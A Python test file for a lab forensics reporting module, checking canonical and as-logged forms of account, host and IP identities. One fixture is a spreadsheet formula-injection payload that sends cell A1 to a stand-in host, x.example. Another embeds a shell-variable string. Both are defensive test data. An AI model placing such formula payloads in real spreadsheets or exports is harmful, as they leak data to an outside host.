"""Identities shown as logged in the report and findings (QA, session 16)."""

from __future__ import annotations

import pandas as pd

from labforensics.identity import canonical_account, canonical_address, canonical_host
from labforensics.report.as_logged import as_logged, session_identities_as_logged, session_title

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1;"ok")'
COST = r"cost $x^2$ \$HOME"
NFD = "he\u0301le\u0300ne.m"  # hélène.m decomposed


def _events() -> pd.DataFrame:
    raw = pd.DataFrame(
        {
            "session_id": ["S1", "S1", "S2", "S2", "S3"],
            "account_raw": ["JDupont", "jdupont", NFD, NFD, "kept"],
            "host_raw": [COST, COST, HYPERLINK, "PC-01", "pc-01"],
            "src_ip_raw": ["::ffff:10.0.0.1", "10.0.0.1", "10.0.0.2", "10.0.0.2", None],
        }
    )
    return raw.assign(
        account=[
            canonical_account(a, casefold=True) if isinstance(a, str) else None
            for a in raw["account_raw"]
        ],
        host=[canonical_host(h) for h in raw["host_raw"]],
        src_ip=[canonical_address(a) if isinstance(a, str) else None for a in raw["src_ip_raw"]],
    )


def test_canonical_forms_worked_by_hand():
    ev = _events()
    assert list(ev["host"]) == [r"cost $x^2$ \$home"] * 2 + [
        '=hyperlink("http://x.example/?"&a1;"ok")',
        "pc-01",
        "pc-01",
    ]
    assert list(ev["src_ip"])[:2] == ["10.0.0.1", "10.0.0.1"]
    assert ev["account"][0] == "jdupont" and ev["account"][2] == "h\u00e9l\u00e8ne.m"


def test_evidence_rows_show_the_forms_as_logged():
    ev = _events()
    ev.loc[4, "account"] = "kept"  # a canonical value without its form as written
    shown = as_logged(ev)
    assert "host_raw" not in shown.columns and "account_raw" not in shown.columns
    assert list(shown["host"]) == [COST, COST, HYPERLINK, "PC-01", "pc-01"]
    assert list(shown["src_ip"])[:2] == ["::ffff:10.0.0.1", "10.0.0.1"]
    # a missing form as written keeps the canonical value
    assert list(shown["account"]) == ["JDupont", "jdupont", NFD, NFD, "kept"]


def test_top_sessions_show_the_forms_as_logged():
    rows = [
        {"session_id": "S1", "lab": "L01", "account": "jdupont", "hosts": r"cost $x^2$ \$home",
         "src_ips": "10.0.0.1"},
        {"session_id": "S2", "lab": "L01", "account": "h\u00e9l\u00e8ne.m",
         "hosts": '=hyperlink("http://x.example/?"&a1;"ok") | pc-01', "src_ips": "10.0.0.2"},
        {"session_id": "S9", "lab": "L02", "account": "x", "hosts": "h", "src_ips": None},
    ]  # fmt: skip
    out = session_identities_as_logged(_events(), rows)
    # sorted distinct forms as written, joined by " | " ("=" sorts before "P")
    assert out[0]["hosts"] == COST
    assert out[0]["src_ips"] == "10.0.0.1 | ::ffff:10.0.0.1"
    assert out[1]["hosts"] == f"{HYPERLINK} | PC-01"
    # the canonical account stays (sessions are matched to pathways by it); the
    # spellings as written are beside it where they differ
    assert out[0]["account"] == "jdupont" and out[0]["account_as_logged"] == "JDupont | jdupont"
    assert out[1]["account_as_logged"] == NFD
    # a session without events here is left as it was; the input rows are not changed
    assert out[2] == rows[2] and rows[0]["hosts"] == r"cost $x^2$ \$home"
    assert session_title(out[1]) == f"L01 · {NFD} @ {HYPERLINK} | PC-01"
    assert session_title({"lab": "L02"}) == "L02 · (no account)"
